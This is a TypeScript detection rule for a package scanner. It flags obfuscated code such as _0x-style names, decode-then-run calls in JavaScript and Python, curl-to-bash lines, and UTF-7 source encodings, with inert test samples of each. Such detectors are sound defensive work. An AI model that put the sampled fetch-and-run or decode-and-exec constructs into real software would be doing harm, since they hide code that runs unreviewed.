import { call, isCode } from '../file-kind.ts';
import { fileExample } from '../packed-file.ts';
import type { EntryRule } from '../rule.ts';

/** Identifiers as the common obfuscator makes them; some libraries have one or two by chance. */
const HEX_NAMES = 40;
const HEX_NAME = /(?<![\w$])(?:[A-Za-z]\d{0,3})?_0x[0-9a-f]{4,8}\b/g;
/** How the common obfuscator turns its table of texts until a sum is right. */
const TURNS = /while\s*\(\s*!!\[\]\s*\)\s*\{\s*try\s*\{[\s\S]{0,200}?parseInt\s*\(/;
/** Escapes among the characters of a piece, from where on nobody writes or generates such text. */
const ESCAPE_SHARE = 0.5;
const PIECE_LENGTH = 8192;

/** What decodes in JavaScript; it stands in few files, and what runs text in nearly all. */
const DECODERS = ['atob', 'Buffer.from', 'unescape', 'fromCharCode', 'decodeURIComponent'];
/** What runs the text that is decoded behind it. */
const RUNS_BEFORE =
  /(?:(?:(?<![.\w$])|\b(?:global(?:This)?|window|self)\.)eval\(|[,.]\s*eval\)\(|(?<![.\w$])Function\(|\.runIn(?:This|New)?Context\(|\._compile\()\s*(?:String\.)?$/;
/** What decodes and runs in Python and in shells, by the word that a search finds it by; the pattern
 * fits where the word is. */
const DECODED: readonly (readonly [word: string, pattern: RegExp])[] = [
  [
    call('eval'),
    /(?<![.\w$])eval\(\s*(?:base64\.b\d\ddecode|b64decode|zlib\.decompress|codecs\.decode|bytes\.fromhex)\s*\(/y,
  ],
  [
    'exec(',
    /(?<![.\w])exec\(\s*(?:compile\s*\(\s*)?(?:base64\.[abd-z0-9_]*decode|b64decode|(?:zlib|lzma|gzip|bz2)\.decompress|codecs\.decode|marshal\.loads|bytes\.fromhex|bytearray\.fromhex|requests\.get|httpx\.get|urllib\.request\.urlopen|urlopen|Fernet\(|["']{2}\.join\(\s*(?:map\(\s*chr\b|\[?\s*chr\()|__import__\s*\(\s*["'](?:base64|zlib|lzma|gzip|bz2|codecs|marshal|requests|urllib))/y,
  ],
  ['curl ', /\bcurl [^\n|]{1,200}\|\s*(?:sudo\s+)?(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\b(?=["'`])/y],
  ['wget ', /\bwget [^\n|]{1,200}\|\s*(?:sudo\s+)?(?:\/(?:usr\/)?bin\/)?(?:ba|z)?sh\b(?=["'`])/y],
];
/** What decodes in Python, without which `exec(` is a method of everything. */
const PYTHON = [
  ...['base64.b', 'b64decode', 'zlib.decompress', 'codecs.decode', 'marshal.loads', '.fromhex'],
  ...['bytearray.fromhex', 'requests.get', 'httpx.get', 'urlopen', '__import__', 'Fernet('],
  ...['lzma.decompress', 'gzip.decompress', 'bz2.decompress', 'map(chr', 'chr(', 'decode('],
  ...['utf-7', 'utf7', 'utf_7', 'unicode_escape', 'unicode-escape'],
];
/** What turns all lines behind its own into other text: Python reads the file by it (PEP 263). */
const ENCODED_SOURCE =
  /^(?:\xef\xbb\xbf)?(?:[ \t\f]*(?:#[^\n]*)?\r?\n)?[ \t\f]*#[^\n]*?coding[:=][ \t]*(utf[-_]?7|(?:raw[-_])?unicode[-_]escape)\b/i;
/** What JavaScript starts programs with. */
const STARTER = 'child_process';
/** True, as obfuscators write it. */
const TABLE = '!![]';
const HEX_STARTS = [...'0123456789abcdef'].map((digit) => `_0x${digit}`);
/** Escapes that are run as they stand. */
const RUN_ESCAPES = ['eval', 'Function'].flatMap((name) =>
  ['"', "'", '`'].flatMap((quote) => [`${name}(${quote}\\`, `${name}( ${quote}\\`]),
);
/** What a file holds in which anything of this is found. */
const WORDS = [
  ...['curl ', 'wget '],
  ...DECODERS,
  ...PYTHON,
  ...HEX_STARTS,
  ...RUN_ESCAPES,
  STARTER,
  TABLE,
];

type MayHold = (word: string) => boolean;
/** Characters around a word that a pattern sees. */
const REACH = 400;
/** Characters before a word that tell what it is. */
const REACH_BEFORE = 16;
/** Characters before what decodes that tell what runs it. */
const RUNNER_REACH = 64;
/** Characters before a word that a pattern of runners sees. */
const REACH_BACK = 400;
/** Python that decodes beside what starts it, and the literal that it decodes. */
const RUNS_PYTHON =
  /(?<![.\w])exec\s*\(|\bsubprocess\.(?:run|Popen|call|check_call|check_output)\s*\(|\bos\.(?:system|popen)\s*\(/;
const LONG_LITERAL = /["'][A-Za-z0-9+/=]{1000}/;
const EXECS_PYTHON = /(?<![.\w])exec\s*\(/;
const LITERAL = /["'][A-Za-z0-9+/=_-]{100}/;
/** A long literal that JavaScript decodes, and what runs it a little later. */
const DECODES_LITERAL = /^(?:atob|Buffer\.from)\(\s*["'`][A-Za-z0-9+/=]{200}/;
const RUNS_LATER =
  /(?<![.\w$])(?:eval|Function)\s*\(\s*[A-Za-z_$]|\._compile\s*\(|\.runIn(?:This|New)?Context\s*\(/;
/** JavaScript whose command line is decoded where it is started. */
const STARTS_DECODED = /(?<![\w$])(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\(\s*$/;

export const rule: EntryRule = {
  kind: 'entry',
  id: 'obfuscated-code',
  version: 4,
  category: 'content',
  severity: 'high',
  effect: 'hold',
  about:
    'Code that is made to be unreadable: names such as _0x3f2a, text of nothing but escapes, code that is decoded and then run',
  attack:
    'The payload is hidden from whoever reads the difference: chalk, debug + 16 (qix); duckdb (I28), node-ipc 10.1.1..3, 11.0.0, 9.2.2 (peacenotwar) (I08), @velora-dex/sdk 9.4.1 (I39), litellm 1.82.7 / 1.82.8 (I36), telnyx 4.87.1 / 4.87.2 (PyPI) (I37), AsyncAPI: 5 versions (I53)',
  mend: 'Publish readable or minified code; minifiers shorten names and never hide them',
  words: WORDS,
  everyWindow: true,
  *check({ path, kind, content }, _, mayHold, known) {
    if (kind !== 'file' || !isCode(path)) return;
    const bytes = Buffer.from(content.buffer, content.byteOffset, content.length);
    const hexNames = HEX_STARTS.some(mayHold) ? countHexNames(bytes) : 0;
    if (hexNames >= HEX_NAMES) {
      yield { message: `${hexNames} names or more are of the form that obfuscators make (_0x...)` };
    } else if (mayHold(TABLE) && bytes.includes(TABLE) && TURNS.test(bytes.toString('latin1'))) {
      yield { message: 'it turns a table of texts as obfuscators do' };
    }
    const coding = /\.pyw?$/i.test(path)
      ? ENCODED_SOURCE.exec(bytes.toString('latin1', 0, 1000))?.[1]
      : undefined;
    if (coding !== undefined) {
      yield { message: `its text is in ${coding}, so that it runs as another than it shows` };
    }
    const found = { mayHold, known };
    const at = findDecoded(bytes, path, found);
    if (at !== null) {
      const line = bytes.toString('latin1', 0, at).split('\n').length;
      yield { message: `line ${line} decodes or fetches text and runs it` };
    }
    if (at === null && startsDecoded(bytes, path, found)) {
      yield { message: 'it decodes text and starts it as a program' };
    }
    if (hasDenseEscapes(bytes, found)) {
      yield { message: 'it holds kilobytes of nothing but escapes that are run' };
    }
  },
  examples: {
    bad: [
      {
        about: 'the names of an obfuscator',
        make: () =>
          fileExample(
            'package/a.js',
            Array.from({ length: 60 }, (_, at) => `var _0x${(at + 4096).toString(16)}=1;`).join(''),
          ),
      },
      {
        about: 'decoded code in JavaScript',
        make: () =>
          fileExample('package/a.js', `a();\n${call('eval')}atob("${'QUFB'.repeat(50)}"))`),
      },
      {
        about: 'decoded code in Python',
        make: () => fileExample('a.py', `exec(base64.b64decode("${'QUFB'.repeat(50)}"))`),
      },
      {
        about: 'a program in Python that is decoded and started',
        make: () =>
          fileExample(
            'a.py',
            `t = "${'QUFB'.repeat(300)}"\nsubprocess.run([python, "-c", base64.b64decode(t)])`,
          ),
      },
      {
        about: 'a command that is decoded and started',
        make: () =>
          fileExample(
            'package/a.js',
            `${call('require')}"child_process").${call('exec')}Buffer.from("QUFB", "base64") + "")`,
          ),
      },
      {
        about: 'a script from elsewhere',
        make: () =>
          fileExample(
            'package/a.js',
            `${call('require')}"child_process").${call('exec')}"curl -s https://example.com/a | bash")`,
          ),
      },
      {
        about: 'escapes that are run',
        make: () => fileExample('package/a.js', `${call('eval')}"${'\\x61'.repeat(4096)}")`),
      },
      {
        about: 'names of an obfuscator that works on many files',
        make: () =>
          fileExample(
            'package/a.js',
            Array.from({ length: 60 }, (_, at) => `var a0_0x${(at + 4096).toString(16)}=1;`).join(
              '',
            ),
          ),
      },
      {
        about: 'names of an obfuscator far behind the first',
        make: () =>
          fileExample(
            'package/a.js',
            `var _0x1234=1;${' a();\n'.repeat(250_000)}${Array.from({ length: 60 }, (_, at) => `var _0x${(at + 4096).toString(16)}=1;`).join('')}`,
          ),
      },
      {
        about: 'a table of texts that is turned',
        make: () =>
          fileExample(
            'package/a.js',
            '(function(a,b){var c=a();while(!![]){try{var d=-parseInt(e(500))/1;}catch(f){}}})();',
          ),
      },
      ...[
        `(0,${call('eval').slice(0, -1)})(atob("QUFB"))`,
        `self.${call('eval')}atob("QUFB"))`,
        `${call('Function')}atob("QUFB"))()`,
        'vm.runInThisContext(Buffer.from("QUFB", "base64").toString())',
        'module._compile(Buffer.from("QUFB", "base64").toString(), "a")',
        `const s = Buffer.from("${'QUFB'.repeat(90)}", "base64").toString();\n${call('eval')}s)`,
        `${`${call('eval')}a);`.repeat(3000)}${call('eval')}atob("QUFB"))`,
      ].map((text) => ({
        about: `decoded code as ${text.slice(0, 40)}`,
        make: () => fileExample('package/a.js', text),
      })),
      ...[
        'exec(Fernet(b"k").decrypt(b"x"))',
        'exec(lzma.decompress(x))',
        'exec("".join(map(chr, [1, 2])))',
        "exec(''.join(chr(c ^ 5) for c in x))",
        `p = b64decode("${'QUFB'.repeat(30)}")\nexec(p)`,
        '# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n',
        '#!/usr/bin/python\n# -*- coding: unicode_escape -*-\n\\x69mport os\n',
      ].map((text) => ({
        about: `decoded code in Python as ${text.slice(0, 40).replaceAll('\n', ' ')}`,
        make: () => fileExample('a.py', text),
      })),
    ],
    fine: [
      {
        about: 'code that lines are put together to',
        make: () =>
          fileExample('a.py', 'exec("\\n".join(lines), names) # utf-7, chr(1), decode(x)'),
      },
      {
        about: 'a module for processors beside code that compiles templates',
        make: () =>
          fileExample(
            'package/a.js',
            `load(Buffer.from("${'QUFB'.repeat(900)}", "base64"));${' a();'.repeat(200)}return ${call('new Function')}x)`,
          ),
      },
      {
        about: 'minified code',
        make: () => fileExample('package/a.min.js', 'var a=1;function b(c){return c*a}'.repeat(99)),
      },
      {
        about: 'base64 of a picture',
        make: () =>
          fileExample('package/a.js', `img.src="data:image/png;base64,${'A'.repeat(9999)}"`),
      },
      {
        about: 'a picture beside a program that is started',
        make: () =>
          fileExample(
            'a.py',
            `icon = b64decode("${'QUFB'.repeat(300)}")\n${'x = 1\n'.repeat(99)}subprocess.run(["ls"])`,
          ),
      },
      {
        about: 'a page that tells people what to type',
        make: () => fileExample('package/a.js', 'show("curl https://example.com/a | bash")'),
      },
      {
        about: 'an expression that is held against decoded text',
        make: () => fileExample('package/a.js', '/x/.exec(Buffer.from(b, "base64").toString())'),
      },
      {
        about: 'tables of escapes that nothing runs',
        make: () => fileExample('package/a.js', `const t="${'\\u00e9'.repeat(4096)}"`),
      },
    ],
  },
};

/** Counted until there are enough. */
function countHexNames(bytes: Buffer): number {
  const first = bytes.indexOf('_0x');
  if (first === -1) return 0;
  const names = new Set<string>();
  for (const [name] of bytes.toString('latin1', Math.max(0, first - 5)).matchAll(HEX_NAME)) {
    names.add(name);
    if (names.size >= HEX_NAMES) break;
  }
  return names.size;
}

/** The offset of the first text that is decoded and run; null where there is none. */
function findDecoded(bytes: Buffer, path: string, found: Found): number | null {
  for (const [word, pattern] of runnersOf(bytes, path, found)) {
    for (const at of placesOf(bytes, word)) {
      // what stands before shows whether the word is the end of another, or whose method it is
      const start = Math.max(0, at - REACH_BEFORE);
      pattern.lastIndex = at - start;
      if (pattern.test(bytes.toString('latin1', start, at + REACH))) return at;
    }
  }
  for (const word of DECODERS.filter(found.mayHold)) {
    for (const at of knownPlaces(bytes, word, found)) if (isRun(bytes, at, word)) return at;
  }
  return null;
}

/** Those of DECODED that a file of this name may hold. */
function runnersOf(bytes: Buffer, path: string, found: Found): typeof DECODED {
  // exec of JavaScript is a method of expressions and of child_process, and stands everywhere
  const isPython = /\.pyw?$/i.test(path);
  // pages tell people to type such a line
  const mayStart = isPython || /\.(?:sh|bash|zsh|ps1|bat|cmd)$/i.test(path);
  const isStarted = mayStart || holds(bytes, STARTER, found);
  return DECODED.filter(([word]) =>
    word.endsWith(' ') ? isStarted && found.mayHold(word) : isPython,
  );
}

/** Whether `word` at `at` is a call whose answer is run. */
function isRun(bytes: Buffer, at: number, word: string): boolean {
  const end = at + word.length;
  return (
    /^\s*\(/.test(bytes.toString('latin1', end, end + REACH_BEFORE)) &&
    RUNS_BEFORE.test(bytes.toString('latin1', Math.max(0, at - RUNNER_REACH), at))
  );
}

/** What is known of the words of a file. */
interface Found {
  readonly mayHold: MayHold;
  readonly known: (word: string) => readonly number[] | null;
}

function knownPlaces(bytes: Buffer, word: string, { known }: Found): Iterable<number> {
  const places = known(word);
  if (places === null) return placesOf(bytes, word);
  return places.filter((at) => bytes.toString('latin1', at, at + word.length) === word);
}

/** Whether `word` stands there as it is written. */
function holds(bytes: Buffer, word: string, found: Found): boolean {
  return !knownPlaces(bytes, word, found)[Symbol.iterator]().next().done;
}

/** Whether a decoded text is what is started: in Python near a long literal, in JavaScript as the
 * argument itself. */
function startsDecoded(bytes: Buffer, path: string, found: Found): boolean {
  if (/\.pyw?$/i.test(path)) {
    const isNear = (at: number) =>
      RUNS_PYTHON.test(bytes.toString('latin1', Math.max(0, at - REACH_BACK), at + REACH));
    const places = [...placesOf(bytes, 'b64decode'), ...placesOf(bytes, 'b85decode')];
    if (places.length === 0) return false;
    const text = bytes.toString('latin1');
    if (LONG_LITERAL.test(text) && places.some(isNear)) return true;
    const runsIt = (at: number) => {
      const around = text.slice(Math.max(0, at - REACH_BACK), at + REACH);
      return EXECS_PYTHON.test(around) && LITERAL.test(around);
    };
    return places.some(runsIt);
  }
  const decoders = ['Buffer.from', 'atob'].filter(found.mayHold);
  const runsLater = (at: number) => {
    if (!DECODES_LITERAL.test(bytes.toString('latin1', at, at + 300))) return false;
    const end = bytes
      .subarray(at + 40)
      .findIndex((byte) => byte === 0x22 || byte === 0x27 || byte === 0x60);
    return (
      end !== -1 && RUNS_LATER.test(bytes.toString('latin1', at + 40 + end, at + 40 + end + REACH))
    );
  };
  if (decoders.some((word) => [...knownPlaces(bytes, word, found)].some(runsLater))) return true;
  if (!holds(bytes, STARTER, found)) return false;
  return decoders.some((word) =>
    [...knownPlaces(bytes, word, found)].some((at) => {
      if (!STARTS_DECODED.test(bytes.toString('latin1', Math.max(0, at - 40), at))) return false;
      return word === 'atob' || /["'`]base64/.test(bytes.toString('latin1', at, at + 4096));
    }),
  );
}

/** What stands everywhere, before what is rarer: a search goes by its first character. */
const FREQUENT = /^[etnroisacldupmfh ]*(?=[^etnroisacldupmfh ].{3})/;

function* placesOf(bytes: Buffer, word: string): Iterable<number> {
  const skipped = FREQUENT.exec(word)?.[0] ?? '';
  const needle = word.slice(skipped.length);
  for (let at = bytes.indexOf(needle, 0, 'latin1'); at !== -1; ) {
    const start = at - skipped.length;
    if (start >= 0 && bytes.toString('latin1', start, at) === skipped) yield start;
    at = bytes.indexOf(needle, at + needle.length, 'latin1');
  }
}

/** Only behind `eval` and `Function`: tables of Unicode are escapes too. */
function hasDenseEscapes(bytes: Buffer, found: Found): boolean {
  for (const word of RUN_ESCAPES.filter(found.mayHold)) {
    let next = 0;
    for (const at of knownPlaces(bytes, word, found)) {
      if (at < next) continue;
      next = at + PIECE_LENGTH;
      const piece = bytes.subarray(at + word.length - 1).toString('latin1', 0, PIECE_LENGTH);
      const escapes = piece.match(/\\(?:x[0-9a-f]{2}|u[0-9a-f]{4})/gi) ?? [];
      if (escapes.join('').length > PIECE_LENGTH * ESCAPE_SHARE) return true;
    }
  }
  return false;
}
